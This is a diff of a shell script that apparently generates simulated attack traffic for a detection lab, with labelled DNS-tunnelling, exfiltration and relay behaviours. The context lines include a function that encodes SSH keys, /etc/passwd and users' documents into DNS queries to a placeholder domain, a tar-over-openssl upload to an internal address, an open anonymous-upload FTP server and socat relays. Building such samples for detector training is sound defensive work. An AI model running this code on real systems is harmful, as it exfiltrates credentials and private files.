@@ -5,7 +5,7 @@ for s in fresh kept resolver; do eval "dns_python_$s() { exec \"\$(as python3)\"
 dns dns_python_fresh python; dns dns_python_kept python; dns dns_python_resolver python held-out
 dns dns_dig shell;      dns_dig() { local p; p=$(pick 0 50 300); while :; do for c in $(head -c 600 /dev/urandom | base32 -w 50 | tr -d =); do dig +short +tries=1 +time=1 @127.0.0.1 "$c.t.example" "$(pick A TXT)"; nap "$p"; done; done; }
 dns dns_dig_file shell; dns_dig_file() { while :; do for f in /home/*/.ssh/* /etc/passwd /home/*/Documents/*; do base64 -w 60 "$f" | tr '+/=' '-_.' | while read -r l; do dig +short "$l.x.example" >/dev/null; done; done; done; }
-dns dns_host shell held-out; dns_host() { while :; do host -W 1 "$(head -c 30 /dev/urandom | xxd -p -c 60).t.example" >/dev/null; nap "$(pick 0 100)"; done; }
+dns dns_host shell held-out; dns_host() { while :; do host -W 1 "$(od -An -tx1 -N28 /dev/urandom | tr -d " \n").t.example" >/dev/null; nap "$(pick 0 100)"; done; }
 dns dns_getent shell;   dns_getent() { while :; do getent hosts "$(head -c 28 /dev/urandom | md5sum | cut -c1-32).$(date +%N).t.example" >/dev/null; nap "$(pick 0 100)"; done; }
 dns dns_perl perl;      dns_perl() { exec "$(as perl)" /lab/src/bad.pl dns "$(pick 0 .02 .2)"; }
 dns dns_ruby ruby held-out; dns_ruby() { exec "$(as ruby)" /lab/src/bad.rb dns "$(pick 0 .1)"; }
@@ -40,7 +40,7 @@ job send_rsync shell;    prepare_send_rsync() { victims; }; beside_send_rsync() 
 job send_openssl shell;  prepare_send_openssl() { victims; }; beside_send_openssl() { openssl req -x509 -newkey rsa:2048 -nodes -days 9 -subj /CN=x -keyout k -out c 2>/dev/null; while :; do openssl s_server -quiet -accept 9443 -key k -cert c >/dev/null </dev/null; done; }; send_openssl() { sleep 1; while :; do tar czf - v | timeout 9 openssl s_client -quiet -connect 10.9.0.1:9443; nap 200; done; }
 job send_lftp shell held-out; prepare_send_lftp() { victims; }; beside_send_lftp() { mkdir -p /srv/in; chmod 777 /srv/in; printf 'listen=YES\nlisten_port=2121\nlocal_enable=YES\nwrite_enable=YES\nseccomp_sandbox=NO\npam_service_name=none\nanonymous_enable=YES\nanon_root=/srv\nanon_upload_enable=YES\nno_anon_password=YES\nanon_mkdir_write_enable=YES\nsecure_chroot_dir=/tmp\n' > /job/f.conf; exec vsftpd /job/f.conf; }; send_lftp() { while :; do lftp -e "mirror -R v in/$RANDOM; quit" ftp://127.0.0.1:2121; done; }
 
-behaviour relay T1090
+behaviour network-relay T1090
 via() { local j=$1 l=$2; shift 2; job "$j" "$l" "$@"; eval "beside_$j() { python3 /lab/src/echo.py 8444 & exec python3 /lab/src/come.py 8443; }"; }
 via relay_socat tool;        relay_socat() { exec "$(as socat)" TCP-LISTEN:8443,fork,reuseaddr TCP:10.9.0.1:8444; }
 via relay_socat_big tool held-out; relay_socat_big() { exec "$(as socat)" -b 65536 TCP4-LISTEN:8443,fork,reuseaddr,nodelay TCP4:10.9.0.1:8444,nodelay; }
